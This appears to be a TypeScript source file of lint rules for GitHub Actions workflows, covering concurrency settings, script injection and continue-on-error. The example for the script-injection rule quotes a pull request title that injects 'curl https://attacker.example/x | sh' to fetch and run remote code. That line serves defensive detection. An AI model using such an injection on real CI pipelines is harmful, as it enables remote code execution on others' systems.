/** Rules about how runs meet each other and what text reaches a shell. */
import type { Rule } from "../rule.ts";
import { allJobs, at, isSelfHosted, type Job, type WorkflowFile } from "../workflow.ts";
import { entry, expressionsIn, get, textOf, type YamlEntry } from "../yaml.ts";

interface Group {
  readonly file: WorkflowFile;
  readonly item: YamlEntry;
  readonly queue: string | undefined;
  readonly cancel: string | undefined;
}

function groupsOf(files: readonly WorkflowFile[]): readonly Group[] {
  return files.flatMap((file) =>
    [entry(file.root, "concurrency"), ...file.jobs.map((job) => entry(job.node, "concurrency"))].flatMap(
      (item): Group[] => {
        if (item === undefined) return [];
        const queue = textOf(get(item.value, "queue"));
        return [{ file, item, queue, cancel: textOf(get(item.value, "cancel-in-progress")) }];
      },
    ),
  );
}

export const concurrencyEvictsWaiters: Rule = {
  id: "concurrency-evicts-waiters",
  title: "Waiting runs are neither dropped nor is paid work cancelled",
  explanation:
    "A concurrency group keeps one waiting run and drops the older one when a third arrives, unless it says `queue: max`. `cancel-in-progress` " +
    "is for pull request checks that a newer push makes pointless; where a machine is held it kills the job and not the bill.",
  example:
    "Three pull requests wanted the GPU at once; the second one's check vanished without a word when the third arrived.",
  fix: "Add `queue: max`. Use `cancel-in-progress` only in workflows that pull requests or pushes start and that hold no hardware.",
  check: (repository, _config, found) => {
    for (const { file, item, queue, cancel } of groupsOf(repository.files)) {
      if (queue === "max") continue;
      const cancels = cancel !== undefined && cancel !== "false";
      if (!cancels)
        found({ file: file.path, ...item.at }, "This group drops the older waiting run when another arrives.");
      else if (holdsWork(file))
        found({ file: file.path, ...item.at }, "This group cancels work that holds hardware or was asked for by name.");
    }
  },
};

function holdsWork(file: WorkflowFile): boolean {
  const asked = ["workflow_dispatch", "schedule", "repository_dispatch", "workflow_call"].some((name) =>
    file.triggers.has(name),
  );
  return asked || file.jobs.some((job) => job.uses === undefined && isSelfHosted(job));
}

export const queueMaxWithCancel: Rule = {
  id: "queue-max-with-cancel",
  title: "`queue: max` is not combined with `cancel-in-progress`",
  explanation:
    "GitHub refuses a workflow that says both, at the moment it should start. The file looks fine until it is needed.",
  example:
    'A lock was "made safer" by adding the second key; from then on no run started, and the dispatches were answered with success.',
  fix: "Keep `queue: max` and remove `cancel-in-progress`.",
  check: (repository, _config, found) => {
    for (const { file, item, queue, cancel } of groupsOf(repository.files)) {
      if (queue === "max" && cancel !== undefined && cancel !== "false") {
        found({ file: file.path, ...item.at }, "GitHub refuses a workflow that combines these two keys.");
      }
    }
  },
};

/** Values of an event that nobody outside can give a shape that matters: numbers, ids, commit ids. */
const HARMLESS =
  /(?:\.number|\.id|\.sha|\.action|_sha|\.before|\.after|\.run_attempt|\.repository\.default_branch|\.draft|\.merged)$/i;

/** Names in any case, as GitHub takes them; a whole context has everything that is in it. */
const OUTSIDE =
  /(?<![\w.-])(?:github\.event(?![\w-])(?:\.[\w.*-]+)?|github\.head_ref|github\.ref_name|inputs\.[\w-]+|(?:github|inputs)(?![\w.-]))/gi;

/** The names that an expression reads, in one way of writing: `github['head_ref']` is `github.head_ref`. Texts are no names. */
function namesIn(expression: string): readonly string[] {
  const plain = expression.replaceAll(/\s*\[\s*'([\w-]+)'\s*\]/g, ".$1").replaceAll(/'(?:[^']|'')*'/g, "''");
  return [...plain.matchAll(OUTSIDE)].map(([name]) => name);
}

export const scriptInjection: Rule = {
  id: "script-injection",
  title: "Text from outside reaches a shell through the environment, never through the script",
  explanation:
    "GitHub pastes the value of `${{ }}` into the script before the shell reads it. A pull request's title, a branch name, a comment or an input " +
    "can then end the command it stands in and begin another.",
  example: 'A pull request titled `"; curl https://attacker.example/x | sh #` ran its command in the triage job.',
  fix: "Put the expression into `env:` of the step and use the variable, in double quotes.",
  check: (repository, _config, found) => {
    for (const job of allJobs(repository)) {
      for (const step of job.steps) {
        const script = get(step.node, "with", "script");
        for (const scalar of [step.run, /github-script@/.test(step.uses?.text ?? "") ? script : undefined]) {
          if (scalar?.kind !== "scalar") continue;
          for (const expression of expressionsIn(scalar)) {
            const bad = namesIn(expression.text).find((name) => !isHarmless(job.file, name));
            if (bad !== undefined) found(at(job, expression.at), `'${bad}' is pasted into a script.`);
          }
        }
      }
    }
  },
};

function isHarmless(file: WorkflowFile, name: string): boolean {
  const input = /^(?:github\.event\.)?inputs\.([\w-]+)$/.exec(name)?.[1];
  if (input === undefined) return HARMLESS.test(name);
  const types = ["workflow_dispatch", "workflow_call"].flatMap((trigger) => {
    const declared = get(file.triggers.get(trigger)?.value, "inputs", input);
    return declared === undefined ? [] : [textOf(get(declared, "type")) ?? "string"];
  });
  return types.length > 0 && types.every((type) => type === "number" || type === "boolean" || type === "choice");
}

/** By its name, as the gate leaves it out (`shared/hosted/prepare-jobs.ts`); the shipped file would not be clean without it. */
const LOOK_UP_JOB = "Archives of an earlier run";

/**
 * A run's conclusion is what the gate takes for the host tests', a required check may stand for what its job needs, and a job
 * that forgives itself fails neither.
 */
export const jobForgivesItself: Rule = {
  id: "job-forgives-itself",
  title: "No job forgives itself whose result counts",
  explanation:
    "With `continue-on-error` at the job's own level a failed job does not fail its run, and jobs that need it go on as if it had succeeded. The gate takes the conclusion of " +
    "a preparation's run for that of its host tests, and a required check often stands for the jobs that it needs: both would be green over a failure.",
  example:
    "A flaky host test was quieted with `continue-on-error: true` on its job; from then on the GPU tests ran, and passed, on archives of a revision whose host tests failed.",
  fix: `Remove it, or move it to the one step that may fail. Only the job '${LOOK_UP_JOB}' of the preparation may have it.`,
  check: (repository, config, found) => {
    const counted = new Set([...config.requiredChecks, ...(config.lanes ?? []).flatMap((lane) => lane.checks)]);
    for (const file of repository.files) {
      const trusted = isPrepared(file)
        ? file.jobs.filter((job) => job.name.text !== LOOK_UP_JOB)
        : withNeeds(
            file,
            file.jobs.filter((job) => counted.has(job.name.text)),
          );
      for (const job of trusted) {
        const item = entry(job.node, "continue-on-error");
        // What an expression comes to is not known here.
        if (item === undefined || textOf(item.value) === "false") continue;
        found(at(job, item.at), `A failure of '${job.id}' does not fail its run, and what needs it goes on.`);
      }
    }
  },
};

/** A workflow that the gate dispatches: it is told which revision to test. */
function isPrepared(file: WorkflowFile): boolean {
  return entry(get(file.triggers.get("workflow_dispatch")?.value, "inputs"), "tested_sha") !== undefined;
}

/** These jobs and every job that they need, directly or not. */
function withNeeds(file: WorkflowFile, jobs: readonly Job[]): readonly Job[] {
  const wanted = new Set<Job>();
  const waiting = [...jobs];
  for (let job = waiting.pop(); job !== undefined; job = waiting.pop()) {
    if (wanted.has(job)) continue;
    wanted.add(job);
    const { needs } = job;
    waiting.push(...file.jobs.filter((one) => needs.includes(one.id)));
  }
  return file.jobs.filter((job) => wanted.has(job));
}
